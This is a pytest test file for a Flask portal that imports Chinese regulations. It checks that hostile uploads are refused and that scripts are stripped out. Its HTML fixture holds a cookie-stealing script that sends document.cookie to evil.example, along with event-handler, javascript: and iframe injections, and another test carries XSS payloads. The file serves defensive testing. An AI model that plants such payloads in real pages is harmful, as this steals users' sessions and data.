"""Hostile files: one clear sentence each, within bounds of memory and time, and no trace in the record."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from portal import schema
from portal.accounts.models import Role
from portal.library.desk.drafts import draft_of

from .hostile import MARKER, REFUSED
from .imports import IMPORT, brought, decide, form_of, page_of, pending, upload
from .small import everything_stored
from .staff import signed_in

ROOT = Path(__file__).parents[2]
SECONDS = 10
MEGABYTES = 600

PAGE = f"""<html><head><meta charset="utf-8"><title>{MARKER}办法</title>
<script>window.location='https://evil.example/steal?'+document.cookie</script>
<base href="https://evil.example/"></head>
<body onload="steal()"><nav><a href="javascript:steal()">首页</a></nav>
<iframe src="https://evil.example/frame"></iframe>
<h1>{MARKER}办法</h1><p onclick="steal()">一、总则</p><p>坚持教育在先，处罚在后，过罚相当。</p>
<p>二、撤回</p><p>当事人可以撤回自己的申请，机关应当准许，并且告知撤回的后果。</p></body></html>"""


@pytest.fixture
def editor(client: FlaskClient) -> FlaskClient:
    signed_in(client, Role.EDITOR)
    return client


def sizes(session: Session) -> dict[str, int]:
    """How many rows each table has."""
    session.expire_all()
    return {
        name: session.scalar(select(func.count()).select_from(table)) or 0
        for name, table in schema.metadata().tables.items()
    }


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_in_one_sentence_and_leaves_no_trace(
    editor: FlaskClient, session: Session, case: str
):
    name, make, says = REFUSED[case]
    content = make()
    before = sizes(session)
    started = time.process_time()
    refused = upload(editor, (name, content))
    assert time.process_time() - started < SECONDS
    assert refused.status_code == 422
    (told,) = (line.get_text(strip=True) for line in page_of(refused).select("#trouble li"))
    assert says in told
    assert told.startswith(name)
    assert told.count("。") == 1
    assert told.endswith("。")
    assert sizes(session) == before
    assert MARKER not in everything_stored(session)


def test_hostile_files_are_read_within_bounds_of_memory(tmp_path: Path):
    """Every file in turn in a process of its own, so that its peak is theirs.

    The peak is the program's: what the kernel counts of a process includes the one that it was forked from.
    """
    for number, (name, make, _) in enumerate(REFUSED.values()):
        (tmp_path / f"{number}-{name}").write_bytes(make())
    program = f"""
from pathlib import Path
from portal.library.details import ImportRefusedError
from portal.library.readings import text_of
for file in sorted(Path({str(tmp_path)!r}).iterdir()):
    try:
        text_of(file.name, file.read_bytes())
    except ImportRefusedError:
        continue
status = Path("/proc/self/status").read_text().splitlines()
print(next(int(line.split()[1]) for line in status if line.startswith("VmHWM")) // 1024)
"""
    done = subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True, timeout=180
    )
    assert int(done.stdout) < MEGABYTES


def test_of_a_page_with_scripts_only_what_can_be_read_is_kept(editor: FlaskClient, session: Session):
    address = brought(editor, "网页.html", PAGE.encode())
    noticed = page_of(editor.get(address)).select_one("section[aria-labelledby=noticed]").text
    assert "网页里的脚本、框架等 6 处已去掉，没有保存。" in noticed
    assert decide(editor, address, "draft", instrument="wangye", region="湛河").status_code == 303
    stored = everything_stored(session)
    assert "坚持教育在先" in str(draft_of(session, "wangye").edition.content)
    assert not re.search(r"evil|steal|script", stored)
    assert b"<h1>" in draft_of(session, "wangye").edition.source.content


@pytest.mark.parametrize("declared", ["utf-8", "iso-8859-1"])
def test_a_page_that_declares_another_encoding_is_read_by_what_it_is(
    editor: FlaskClient, session: Session, declared: str
):
    page = PAGE.replace('charset="utf-8"', f'charset="{declared}"').encode("gb18030")
    address = brought(editor, "网页.html", page)
    assert form_of(editor, address)["title"] == f"{MARKER}办法"
    assert "坚持教育在先" in pending(session)[0].content.decode("utf-8")


def test_what_a_file_says_is_never_markup_of_the_page(editor: FlaskClient):
    text = "<script>alert(1)</script>办法\n一、<img src=x onerror=alert(1)>总则\n二、“撤回”\n"
    address = brought(editor, "<b>坏</b>.txt", text.encode())
    page = page_of(editor.get(address))
    assert not page.select("main script, main img, main b")
    assert not page_of(editor.get(IMPORT)).select("main b")
    assert form_of(editor, address)["title"]


def test_honest_cells_that_begin_with_a_sign_are_no_formulas(editor: FlaskClient):
    table = "序号,违法行为,适用条件,处理结果\n1,乱贴广告,- 及时改正；+86 开头的号码；-5 度以下,不予处罚\n"
    page = page_of(editor.get(brought(editor, "清单.csv", table.encode())))
    assert "乱贴广告" in page.select_one(".import-items").text
